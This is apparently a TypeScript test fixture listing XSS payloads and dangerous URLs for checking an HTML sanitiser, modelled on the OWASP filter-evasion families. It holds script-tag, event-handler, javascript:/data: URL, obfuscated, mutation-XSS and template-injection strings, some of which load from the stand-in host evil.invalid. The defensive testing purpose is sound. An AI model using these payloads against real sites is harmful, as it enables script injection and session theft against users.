/**
 * Script-injection strings in the classic filter-evasion families (written for this suite, after
 * the patterns OWASP's XSS filter evasion cheat sheet catalogues): plain and broken-up script
 * tags, event handlers on many elements, javascript:/data: URLs in every spelling, entity and
 * control-character obfuscation, attribute breakouts, mutation-XSS nesting, CSS and meta tricks,
 * template injection and remote loads. Each calls `__xss` (a hook the test plants) or alert, so
 * any that runs is seen; the remote ones point at a host the test blocks and reports.
 */
export const XSS_VECTORS: readonly string[] = [
  `<script>__xss("script")</script>`,
  `"><script>__xss("breakout")</script>`,
  `'><script>alert("single-quote breakout")</script>`,
  `</title><script>__xss("title close")</script>`,
  `</textarea><script>__xss("textarea close")</script>`,
  `<ScRiPt>__xss("mixed case")</sCrIpT>`,
  `<scr<script>ipt>__xss("nested")</scr</script>ipt>`,
  `<script src="http://evil.invalid/x.js"></script>`,
  `<img src=x onerror=__xss("img onerror")>`,
  `<img src=x onerror="&#95;&#95;xss&#40;&#39;entities&#39;&#41;">`,
  `<IMG SRC=javascript:__xss('img js')>`,
  `<IMG """><SCRIPT>__xss("quotes")</SCRIPT>">`,
  `<svg/onload=__xss("svg")>`,
  `<svg><script>__xss("svg script")</script></svg>`,
  `<body onload=__xss("body")>`,
  `<details open ontoggle=__xss("details")>`,
  `<input autofocus onfocus=__xss("autofocus")>`,
  `<video><source onerror=__xss("video")></video>`,
  `<marquee onstart=__xss("marquee")>x</marquee>`,
  `<iframe src="javascript:__xss('iframe')"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss('srcdoc')</script>"></iframe>`,
  `<a href="javascript:__xss('link')">click</a>`,
  `<a href="jav&#x09;ascript:__xss('tab')">tab</a>`,
  `<a href=" &#14; javascript:__xss('control')">control</a>`,
  `<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoJ29iamVjdCcpPC9zY3JpcHQ+"></object>`,
  `<embed src="javascript:__xss('embed')">`,
  `<form action="javascript:__xss('form')"><button>go</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=__xss("mxss")>`,
  `<noscript><p title="</noscript><img src=x onerror=__xss('noscript')>">`,
  `<div style="background:url(javascript:__xss('css'))">css</div>`,
  `<style>@import "http://evil.invalid/x.css";</style>`,
  `<link rel=stylesheet href="http://evil.invalid/x.css">`,
  `<img src="http://evil.invalid/pixel.png">`,
  `<meta http-equiv="refresh" content="0;url=javascript:__xss('meta')">`,
  `<base href="http://evil.invalid/">`,
  `';__xss("js string");//`,
  `\\";__xss("escaped quote");//`,
  `{{constructor.constructor('__xss("template")')()}}`,
  `\${__xss("template literal")}`,
  `&lt;script&gt;__xss("pre-escaped")&lt;/script&gt;`,
  `%3Cscript%3E__xss("percent")%3C/script%3E`,
  `\u003cscript\u003e__xss("unicode escape")\u003c/script\u003e`,
  `＜script＞__xss("fullwidth")＜/script＞`,
];

/** URLs a record may carry: none may become a live link. */
export const XSS_URLS: readonly string[] = [
  `javascript:__xss('url')`,
  `JaVaScRiPt:__xss('url case')`,
  ` javascript:__xss('url space')`,
  `data:text/html,<script>__xss('data url')</script>`,
  `vbscript:msgbox("url")`,
  `http://evil.invalid/"><script>__xss('url breakout')</script>`,
];
